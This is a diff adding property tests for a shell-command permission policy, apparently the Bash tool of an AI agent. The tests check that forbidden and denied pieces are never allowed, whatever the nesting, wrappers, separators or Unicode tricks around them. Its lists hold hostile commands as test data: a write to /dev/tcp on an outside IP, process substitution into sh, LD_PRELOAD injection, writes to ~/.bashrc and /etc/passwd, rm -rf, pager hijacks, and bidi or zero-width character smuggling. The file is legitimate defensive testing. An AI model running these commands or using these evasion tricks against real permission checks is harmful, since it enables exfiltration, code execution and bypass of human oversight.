@@ -1,0 +1,205 @@
+// Property tests of §7 of reference/security-cases.md that a pure decide() can check:
+// F-01 (no allow with a forbidden piece), F-02 (monotonic deny), positive control, F-03 (rule
+// monotonicity), F-06 (Unicode), F-11 (rule order), F-12 (prefix boundary), F-13 (time bound),
+// F-14 (wrapper transparency). Seeded, so a failure reproduces; the counterexample is printed.
+import path from 'node:path';
+import fc from 'fast-check';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { initShellParser } from '../../src/permissions/shell.js';
+import { decide } from '../../src/permissions/policy.js';
+import type { Behavior, PermissionMode, PermissionRules, PolicyEnv } from '../../src/permissions/types.js';
+
+const R1: PermissionRules = { allow: ['Bash(echo:*)', 'Bash(git diff:*)', 'Bash(npm test:*)', 'Bash(ls:*)'], ask: [], deny: [] };
+const RD: PermissionRules = { ...R1, deny: ['Bash(rm:*)', 'Bash(curl:*)'] };
+const ENV: PolicyEnv = { cwd: '/srv/app', workingDirs: ['/srv/app'], home: '/home/u', realpath: (p) => path.posix.resolve('/srv/app', p) };
+const SEED = 20261124;
+const RUNS = 300;
+
+const bash = (command: string, rules: PermissionRules, mode: PermissionMode = 'default'): Behavior =>
+  decide({ toolName: 'Bash', input: { command } }, mode, rules, ENV).behavior;
+const rank = (b: Behavior) => ({ allow: 0, ask: 1, deny: 2 })[b];
+
+/** Commands that R1 (or the built-in read-only list) allows on their own. */
+const ALLOWED = ['echo hi', 'ls', 'ls -la', 'git diff --stat', 'npm test', 'npm test -- --ci', "echo 'a b'", 'echo "x y"',
+  'git diff HEAD~1 -- src', 'ls src', 'pwd', 'git status'];
+/** Commands that must never be allowed under R1 or RD, whatever surrounds them. */
+const FORBIDDEN = [
+  'rm -rf build', 'curl -s https://x.test', 'touch FLAG', 'chmod +x x.sh', 'git push', 'npm run build', 'tee out.txt', 'sh', 'node -e 1',
+  'echo $(touch FLAG)', 'echo `id`', 'echo "$(id)"', 'ls $(echo /)', 'cat <(id)', 'echo hi > >(sh)', 'echo $HOME', 'echo ${x@P}',
+  'echo x > .git/config', 'echo x >> ~/.bashrc', 'echo x > out.txt', 'ls 2> err.log', 'ls > /etc/passwd', 'echo x > /dev/tcp/203.0.113.5/80',
+  "bash -c 'ls'", 'sh -c "echo hi"', "eval 'echo hi'", 'source ./x.sh', '. ./x.sh', 'exec ls', 'sudo ls', 'xargs rm',
+  'FOO=1 npm test', 'PAGER=./x.sh git diff', 'LD_PRELOAD=./e.so ls', '$X', '${X} hi', 'export PAGER=./x.sh',
+  'git diff --output=/tmp/x', 'git diff --ext-diff', 'git -c core.pager=sh diff', 'npm test --prefix /tmp/evil', 'find . -delete',
+  "sed -i 's/a/b/' src/a.ts", './ls', '/tmp/ls -la', 'lsblk', 'npm testx', '"ec""ho" hi', 'l\\s', 'ls() { rm x; }', 'alias ls=rm',
+  'echo hi\u200b', 'ls\u00a0-la', 'echo \u202eabc',
+];
+/** Commands that hit RD's deny rules when executed. */
+const DENIED = ['rm -rf build', 'rm x', '/bin/rm -f x', 'curl -s https://x.test', "'r''m' -rf build", '\\rm x', '"curl" x.test',
+  'command rm x', 'nohup rm x', 'timeout 5 rm x', 'env rm x', 'sudo rm x', 'nice -n 5 curl x.test', 'ls | xargs rm', 'exec rm x'];
+const SEPARATORS = [' && ', ' || ', ' ; ', ';', ' | ', ' & ', '\n', ' |& '];
+const PLAIN_SEPARATORS = [' && ', ' || ', ' ; ', ';', ' | ', ' & ', '\n'];
+
+/** Wrappers that execute their payload; `q` is the quote character a wrapper adds (each used once). */
+const EXEC_WRAPPERS: { w: (x: string) => string; q?: string }[] = [
+  { w: (x) => `( ${x} )` }, { w: (x) => `{ ${x}; }` }, { w: (x) => `echo $(${x})` }, { w: (x) => `echo \`${x}\``, q: '`' },
+  { w: (x) => `cat <(${x})` }, { w: (x) => `echo hi > >(${x})` }, { w: (x) => `bash -c '${x}'`, q: "'" }, { w: (x) => `eval "${x}"`, q: '"' },
+  { w: (x) => `if true; then ${x}; fi` }, { w: (x) => `for f in a; do ${x}; done` }, { w: (x) => `{ ! ${x}; }` }, { w: (x) => `echo "$(${x})"`, q: '"' },
+];
+function wrapAll(x: string, picks: number[]): string {
+  let s = x;
+  for (const i of picks) {
+    const wr = EXEC_WRAPPERS[i % EXEC_WRAPPERS.length]!;
+    if (wr.q && s.includes(wr.q)) continue; // would break the quoting; skip this layer
+    s = wr.w(s);
+  }
+  return s;
+}
+
+const join = (pieces: string[], seps: string[]) => pieces.reduce((acc, p, i) => (i === 0 ? p : acc + seps[(i - 1) % seps.length]! + p), '');
+const grouping = fc.constantFrom((s: string) => s, (s: string) => `( ${s} )`, (s: string) => `{ ${s}; }`);
+
+/** A compound with at least one forbidden piece at a random place, optionally nested in executing wrappers. */
+const withForbidden = fc
+  .record({
+    allowed: fc.array(fc.constantFrom(...ALLOWED), { maxLength: 4 }),
+    forbidden: fc.constantFrom(...FORBIDDEN),
+    at: fc.nat(),
+    seps: fc.array(fc.constantFrom(...SEPARATORS), { minLength: 1, maxLength: 5 }),
+    wrap: fc.array(fc.nat(), { maxLength: 2 }),
+    group: grouping,
+  })
+  .map(({ allowed, forbidden, at, seps, wrap, group }) => {
+    const pieces = [...allowed];
+    pieces.splice(at % (pieces.length + 1), 0, wrapAll(forbidden, wrap));
+    return group(join(pieces, seps));
+  });
+
+const onlyAllowed = fc
+  .record({ pieces: fc.array(fc.constantFrom(...ALLOWED), { minLength: 1, maxLength: 6 }), seps: fc.array(fc.constantFrom(...PLAIN_SEPARATORS), { minLength: 1, maxLength: 5 }) })
+  .map(({ pieces, seps }) => join(pieces, seps));
+
+const withDenied = fc
+  .record({
+    others: fc.array(fc.constantFrom(...ALLOWED, ...FORBIDDEN), { maxLength: 4 }),
+    denied: fc.constantFrom(...DENIED),
+    at: fc.nat(),
+    seps: fc.array(fc.constantFrom(...SEPARATORS), { minLength: 1, maxLength: 5 }),
+    wrap: fc.array(fc.nat(), { maxLength: 4 }),
+    group: grouping,
+  })
+  .map(({ others, denied, at, seps, wrap, group }) => {
+    const pieces = [...others];
+    pieces.splice(at % (pieces.length + 1), 0, wrapAll(denied, wrap));
+    return group(join(pieces, seps));
+  });
+
+const anyCommand = fc.oneof(withForbidden, onlyAllowed, withDenied);
+const opts = (numRuns = RUNS) => ({ seed: SEED, numRuns });
+
+beforeAll(async () => {
+  await initShellParser();
+});
+
+describe('shell composition properties (§7)', () => {
+  it('F-01: a command with a forbidden piece is never allowed (R1 and RD)', () => {
+    fc.assert(fc.property(withForbidden, (cmd) => {
+      expect(bash(cmd, R1), cmd).not.toBe('allow');
+      expect(bash(cmd, RD), cmd).not.toBe('allow');
+    }), opts());
+  });
+
+  it('F-02: a piece hitting a deny rule denies the whole command, at any depth', () => {
+    fc.assert(fc.property(withDenied, (cmd) => {
+      expect(bash(cmd, RD), cmd).toBe('deny');
+    }), opts());
+  });
+
+  it('F-02: deny survives a chain of 200 allowed sub-commands around it', () => {
+    const chain = Array.from({ length: 200 }, (_, i) => (i === 150 ? 'rm -rf build' : 'echo a')).join(' && ');
+    expect(bash(chain, RD)).toBe('deny');
+  });
+
+  it('positive control: allowed pieces joined by && || ; | & newline stay allowed', () => {
+    fc.assert(fc.property(onlyAllowed, (cmd) => {
+      expect(bash(cmd, R1), cmd).toBe('allow');
+      expect(bash(cmd, RD), cmd).toBe('allow');
+    }), opts());
+  });
+
+  it('F-03: adding an allow rule never lifts a deny; adding deny/ask never yields a new allow', () => {
+    const extraAllow = fc.constantFrom('Bash', 'Bash(rm:*)', 'Bash(curl:*)', 'Bash(sh:*)', 'Bash(eval:*)', 'Bash(xargs:*)', 'Bash(touch:*)', 'Bash(bash -c:*)');
+    const extraStrict = fc.constantFrom('Bash(echo:*)', 'Bash(ls:*)', 'Bash(npm:*)', 'Bash(git:*)', 'Bash(rm:*)', 'Bash(pwd)');
+    fc.assert(fc.property(anyCommand, extraAllow, extraStrict, fc.boolean(), (cmd, a, s, asDeny) => {
+      const before = bash(cmd, RD);
+      if (before === 'deny') expect(bash(cmd, { ...RD, allow: [...RD.allow, a] }), `${cmd} + allow ${a}`).toBe('deny');
+      const stricter = asDeny ? { ...RD, deny: [...RD.deny, s] } : { ...RD, ask: [...RD.ask, s] };
+      if (bash(cmd, stricter) === 'allow') expect(before, `${cmd} + ${asDeny ? 'deny' : 'ask'} ${s}`).toBe('allow');
+    }), opts(200));
+  });
+
+  it('F-06: a format, bidi or non-ASCII space character anywhere in an allowed command is never allowed', () => {
+    const cps = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069',
+      '\u200e', '\u200f', '\u061c', '\u00a0', '\u2000', '\u2007', '\u202f', '\u3000', '\u037e', '\u00ad', '\u{e0041}'];
+    fc.assert(fc.property(onlyAllowed, fc.constantFrom(...cps), fc.nat(), (cmd, cp, at) => {
+      const i = at % (cmd.length + 1);
+      const mutated = cmd.slice(0, i) + cp + cmd.slice(i);
+      expect(bash(mutated, R1), JSON.stringify(mutated)).not.toBe('allow');
+    }), opts(200));
+  });
+
+  it('F-11: shuffling rules inside each list never changes a decision', () => {
+    const rules: PermissionRules = { allow: [...R1.allow, 'Bash(git status)', 'Bash(touch:*)'], ask: ['Bash(git push:*)', 'Bash(touch FLAG)'], deny: [...RD.deny, 'Bash(sh:*)'] };
+    fc.assert(fc.property(anyCommand, fc.nat(), (cmd, seed) => {
+      const shuffle = (xs: string[]) => xs.map((x, i) => [((seed + 1) * (i + 7)) % 97, x] as const).sort((a, b) => a[0] - b[0]).map((p) => p[1]);
+      const shuffled = { allow: shuffle(rules.allow), ask: shuffle(rules.ask), deny: shuffle(rules.deny) };
+      expect(bash(cmd, shuffled), cmd).toBe(bash(cmd, rules));
+    }), opts(150));
+  });
+
+  it('F-12: a prefix rule never matches a longer token (npm test → npm testx, npm test:unit, …)', () => {
+    const suffix = fc.string({ unit: fc.constantFrom(...'abcxyz019:._/=+@%,-*~'.split(''), 'é', 'ж', 'ß'), minLength: 1, maxLength: 6 });
+    fc.assert(fc.property(suffix, fc.constantFrom('', ' --ci', ' x'), (s, tail) => {
+      const cmd = `npm test${s}${tail}`;
+      expect(bash(cmd, R1), cmd).not.toBe('allow');
+    }), opts(200));
+  });
+
+  it('F-14: a transparent wrapper never makes a decision more permissive', () => {
+    const simple = [...ALLOWED, ...FORBIDDEN.filter((f) => !/[;&|()]/.test(f)), ...DENIED.filter((d) => !d.includes('|'))];
+    const wrappers = ['timeout 5', 'nice', 'nohup', 'env', 'command', 'time', 'nice -n 10', 'timeout 60'];
+    fc.assert(fc.property(fc.constantFrom(...simple), fc.constantFrom(...wrappers), (c, w) => {
+      expect(rank(bash(`${w} ${c}`, RD)), `${w} ${c}`).toBeGreaterThanOrEqual(rank(bash(c, RD)));
+    }), opts(200));
+  });
+});
+
+describe('decision time (§7 F-13, issue 5 figure)', () => {
+  const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
+  const timeOf = (cmd: string, rules: PermissionRules) => {
+    const times: number[] = [];
+    let b: Behavior = 'allow';
+    for (let i = 0; i < 5; i++) {
+      const t0 = performance.now();
+      b = bash(cmd, rules);
+      times.push(performance.now() - t0);
+    }
+    return { ms: median(times), b };
+  };
+
+  it('a 10 000-character chain of allowed commands is decided in under 50 ms', () => {
+    const cmd = 'echo a && '.repeat(999) + 'echo b';
+    expect(cmd.length).toBeGreaterThanOrEqual(9990);
+    // 1000 sub-commands may exceed the analysis budget (structural ask is fine); never deny.
+    const { ms, b } = timeOf(cmd, R1);
+    expect(b).not.toBe('deny');
+    expect(ms).toBeLessThan(50);
+  });
+
+  it('a 10 000-character command with a denied piece near the end is denied in under 50 ms', () => {
+    const cmd = 'ls -la && '.repeat(995) + 'rm -rf build';
+    expect(cmd.length).toBeGreaterThanOrEqual(9950);
+    const { ms, b } = timeOf(cmd, RD);
+    expect(b).toBe('deny');
+    expect(ms).toBeLessThan(50);
+  });
+});
